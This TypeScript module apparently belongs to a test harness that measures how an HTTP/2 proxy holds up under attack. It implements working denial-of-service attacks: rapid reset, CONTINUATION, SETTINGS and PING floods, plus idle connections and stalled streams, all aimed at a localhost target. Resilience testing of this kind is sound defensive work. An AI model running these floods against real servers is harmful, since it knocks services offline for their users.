// Attacks on HTTP/2 of the public kind, each as one lane: a connection, what is sent on it until it ends, and then the next one.
import { setTimeout as pause } from 'node:timers/promises';
import {
  ACK,
  block,
  CONTINUATION,
  END_HEADERS,
  END_STREAM,
  FrameWire,
  frame,
  GOAWAY,
  HEADERS,
  PING,
  PING_REQUEST,
  RST_STREAM,
  SETTINGS,
} from '../test/kit/http2-frames.js';

export interface Attack {
  readonly name: string;
  readonly title: string;
  /** Runs until it is told to stop. */
  run(origin: string, size: number, told: Told): Promise<void>;
}

export interface Told {
  readonly stopped: () => boolean;
  /** It is at its height: what is measured begins here. */
  readonly full: () => void;
  readonly tally: Tally;
}

export interface Tally {
  connections: number;
  frames: number;
  /** Most that were open at a time, of what the attack keeps open. */
  open: number;
}

const LANES = 4;
const CHUNK = 100;
const STALLED_MS = 1_000;
const CANCEL = Buffer.from([0, 0, 0, 8]);
/** Connections that are opened at a time. */
const OPENING = 16;
/** Streams of one connection that are kept open: as many as it may have before it is told of fewer. */
const STREAMS = 100;
const BODY_NEVER_COMES = block({
  ':method': 'POST',
  ':scheme': 'https',
  ':path': '/akprox/backchannel_logout',
  ':authority': 'whoami.localhost:8080',
});
const TOPPING_UP_MS = 100;
/**
 * After which what is open is all that will be: the outpost ends as many as a busy machine opens, and
 * keeps no more than so many idle ones; the memory that malloc lost between them takes two minutes to level off.
 */
const RISE_MS = 180_000;

/** As much as the connection takes, until the other side ends it, asks to go or takes no more. */
function flood(name: string, title: string, make: (i: number) => Buffer): Attack {
  const lane = async (origin: string, { stopped, tally }: Told): Promise<void> => {
    while (!stopped()) {
      const wire = await open(origin, tally);
      if (wire === null) continue;
      let isOver = false;
      void wire
        .next(({ type }) => type === GOAWAY)
        .then(() => {
          isOver = true;
        });
      for (let i = 0; !isOver && !stopped(); i += CHUNK) {
        wire.send(...Array.from({ length: CHUNK }, (_, j) => make(i + j)));
        tally.frames += CHUNK;
        const stalled = performance.now() + STALLED_MS;
        // What is not taken waits in this process: no more than a little.
        do await new Promise(setImmediate);
        while (wire.socket.writableLength > 65_536 && !isOver && !stopped() && performance.now() < stalled);
        isOver ||= performance.now() >= stalled;
      }
      wire.close();
    }
  };
  return {
    name,
    title,
    run: async (origin, _size, told) => {
      told.full();
      await Promise.all(Array.from({ length: LANES }, () => lane(origin, told)));
    },
  };
}

/** So many are kept: each that the other side ends is opened anew. `each`: how many things a connection holds. */
function idle(name: string, title: string, each: number, begin: (wire: FrameWire) => Promise<void>): Attack {
  return {
    name,
    title,
    run: async (origin, size, { stopped, full, tally }) => {
      const wires = new Set<FrameWire>();
      const wanted = Math.ceil(size / each);
      const one = async (): Promise<void> => {
        const wire = await open(origin, tally);
        if (wire === null) return;
        wires.add(wire);
        wire.socket.once('close', () => wires.delete(wire));
        await begin(wire);
        tally.frames += each;
      };
      let announced = false;
      const late = performance.now() + RISE_MS;
      while (!stopped()) {
        const lacking = wanted - wires.size;
        await Promise.all(Array.from({ length: Math.min(OPENING, lacking) }, one));
        tally.open = Math.max(tally.open, wires.size * each);
        if (!announced && (wires.size >= wanted || performance.now() > late)) {
          full();
          announced = true;
        }
        if (wires.size >= wanted) await pause(TOPPING_UP_MS);
      }
      for (const wire of wires) wire.close();
    },
  };
}

/** As a client does that is there; without it the outpost ends its connection within half a minute. */
async function answerPings(wire: FrameWire): Promise<void> {
  for (;;) {
    const ping = await wire.next(({ type, flags }) => type === PING && flags !== ACK);
    if (ping === null) return;
    wire.send(frame(PING, ACK, 0, ping.payload));
  }
}

async function open(origin: string, tally: Tally): Promise<FrameWire | null> {
  try {
    const wire = await FrameWire.open(origin);
    tally.connections += 1;
    return wire;
  } catch {
    await pause(5);
    return null;
  }
}

export const ATTACKS: readonly Attack[] = [
  flood('rapid-reset', 'each request is reset at once (CVE-2023-44487)', (i) =>
    Buffer.concat([
      frame(HEADERS, END_STREAM | END_HEADERS, 2 * i + 1, PING_REQUEST),
      frame(RST_STREAM, 0, 2 * i + 1, CANCEL),
    ]),
  ),
  flood('continuation', 'a head that never ends (CVE-2024-27983 and its kin)', (i) =>
    i === 0
      ? frame(HEADERS, END_STREAM, 1, PING_REQUEST)
      : frame(CONTINUATION, 0, 1, block({ [`x-${i}`]: 'y'.repeat(100) })),
  ),
  flood('settings', 'SETTINGS after SETTINGS (CVE-2019-9515)', () => frame(SETTINGS, 0, 0)),
  flood('ping', 'PING after PING (CVE-2019-9512)', () => frame(PING, 0, 0, Buffer.alloc(8))),
  idle('connections', 'connections that have asked once and are idle', 1, async (wire) => {
    wire.send(frame(SETTINGS, ACK, 0), frame(HEADERS, END_STREAM | END_HEADERS, 1, PING_REQUEST));
    await wire.next(({ type, stream }) => type === HEADERS && stream === 1);
    void answerPings(wire);
  }),
  idle('streams', 'streams whose body never comes', STREAMS, async (wire) => {
    wire.send(...Array.from({ length: STREAMS }, (_, i) => frame(HEADERS, END_HEADERS, 2 * i + 1, BODY_NEVER_COMES)));
    void answerPings(wire);
  }),
];
